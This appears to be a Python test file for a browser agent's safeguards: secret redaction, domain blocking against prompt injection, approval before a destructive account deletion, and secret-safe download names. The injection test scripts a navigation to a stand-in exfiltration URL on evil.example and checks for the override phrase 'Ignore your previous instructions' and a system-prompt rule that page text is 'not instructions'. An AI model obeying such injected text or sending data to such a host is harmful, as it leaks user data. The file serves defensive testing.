"""Safety holds end to end: secrets never reach the model or the disk; injected pages cannot steer Kite past
domain limits or confirmations."""

from __future__ import annotations

import json
import random
import string
from pathlib import Path

from kite_browser.agent.run.loop import Agent
from kite_browser.safety.confirm import BatchConfirmer
from kite_browser.safety.secrets import SecretStore
from tests.fixtures.sites import site_state

ALPHABET = string.ascii_letters + string.digits + "!#$%&*+-./:;=?@^_~ äöüß中文ñ"


def random_secrets(n: int, seed: int = 7) -> list[str]:
    rng = random.Random(seed)
    return ["".join(rng.choice(ALPHABET) for _ in range(rng.randint(6, 24))) for _ in range(n)]


def file_names(run_dir: str) -> list[str]:
    return [p.name for p in Path(run_dir).rglob("*")]


def everything_on_disk(run_dir: str) -> bytes:
    return b"\n".join(p.read_bytes() for p in Path(run_dir).rglob("*") if p.is_file())


async def test_secret_values_never_reach_the_model_or_the_run_folder(
    make_config, ctx_session, sites, scripted_model
):
    for value in random_secrets(4):
        store = SecretStore.from_sources(make_config().safety, cli=[f"token={value}"])
        scripted_model.script(
            [
                [
                    {
                        "name": "type",
                        "arguments": {"selector": "#full-name", "text": "<secret>token</secret>"},
                    },
                    {
                        "name": "type",
                        "arguments": {"selector": "#comments", "text": "again <secret>token</secret>"},
                    },
                ],
                {"name": "getElementDetails", "arguments": {"indices": [0, 1, 2, 3, 4, 5, 6, 7, 8]}},
                {"name": "done", "arguments": {"success": True, "answer": "typed"}},
            ]
        )
        config = make_config(**{"llm.model": "kite/scripted", "run.screenshots": True})
        agent = Agent(config, context=ctx_session, secrets=store)
        result = await agent.run("fill the form", start_url=sites.url("/forms/"))
        assert result.success, result
        typed = await ctx_session.page.input_value("#full-name")
        assert typed == value, "the real value was not typed"
        sent = json.dumps([c.model_dump() for c in scripted_model.calls], ensure_ascii=False)
        assert value not in sent
        assert "<secret>token</secret>" in sent
        disk = everything_on_disk(result.run_dir)
        assert value.encode() not in disk and json.dumps(value)[1:-1].encode() not in disk


async def test_prompt_injection_cannot_pass_domain_limits(make_config, ctx_session, sites, scripted_model):
    # The model "obeys" the page: it tries to go where the page says.
    scripted_model.script(
        [
            {"name": "navigate", "arguments": {"url": "http://evil.example/steal?c=1"}},
            {"name": "done", "arguments": {"success": False, "answer": "blocked"}},
        ]
    )
    config = make_config(**{"llm.model": "kite/scripted", "safety.blocked_domains": ["evil.example"]})
    result = await Agent(config, context=ctx_session).run(
        "read the reviews", start_url=sites.url("/test/injection.html")
    )
    steps = [json.loads(x) for x in (Path(result.run_dir) / "steps.jsonl").read_text().splitlines()]
    first = steps[1]["actions"][0]
    assert first["decision"]["level"] == "block" and first["result"]["ok"] is False
    assert "evil.example" not in ctx_session.page.url
    system = scripted_model.calls[0].messages[0]["content"]
    user = scripted_model.calls[0].messages[1]["content"]
    assert "<untrusted_page>" in user and "Ignore your previous instructions" in user
    assert "not instructions" in system


async def test_destructive_click_needs_approval_in_batch_mode(
    make_config, ctx_session, sites, scripted_model
):
    page = ctx_session.page
    await page.goto(sites.url("/account/login"))
    await page.fill("#email", "demo@kite.test")
    await page.fill("#password", "kite123")
    await page.click("#login")
    await page.wait_for_url("**/account/**")
    scripted_model.script(
        [
            {"name": "type", "arguments": {"selector": "#confirm-email", "text": "demo@kite.test"}},
            {"name": "click", "arguments": {"selector": "#delete-confirm"}},
            {"name": "done", "arguments": {"success": False, "answer": "declined"}},
        ]
    )
    confirmer = BatchConfirmer()
    config = make_config(**{"llm.model": "kite/scripted"})
    result = await Agent(config, context=ctx_session, confirmer=confirmer).run(
        "delete my account", start_url=sites.url("/account/delete/confirm")
    )
    assert result.stop_reason == "done"
    state = await site_state(page, sites)
    assert state["deleted_accounts"] == [], "the account was deleted without approval"
    assert any("declined" in json.dumps(c.messages) for c in scripted_model.calls[2:3])
    assert confirmer.asked, "the batch confirmer was never asked"


DOWNLOAD_PAGE = """<!doctype html><title>Receipt</title><input id=code>
<button id=get onclick="const a = document.createElement('a');
a.href = 'data:text/plain,receipt'; document.body.append(a);
a.download = 'receipt-' + document.getElementById('code').value + '.txt'; a.click()">Get receipt</button>"""


async def test_a_secret_echoed_into_a_download_name_is_not_written_to_disk(
    make_config, ctx_session, pages_server, scripted_model
):
    value = random_secrets(1, seed=7)[0]
    store = SecretStore.from_sources(make_config().safety, cli=[f"token={value}"])
    scripted_model.script(
        [
            [
                {"name": "type", "arguments": {"selector": "#code", "text": "<secret>token</secret>"}},
                {"name": "click", "arguments": {"selector": "#get"}},
            ],
            {"name": "done", "arguments": {"success": True, "answer": "saved"}},
        ]
    )
    config = make_config(**{"llm.model": "kite/scripted"})
    result = await Agent(config, context=ctx_session, secrets=store).run(
        "get the receipt", start_url=pages_server.add("/receipt.html", DOWNLOAD_PAGE)
    )
    names = file_names(result.run_dir)
    assert "receipt-secret-token.txt" in names, sorted(names)
    assert not [n for n in names if value in n]
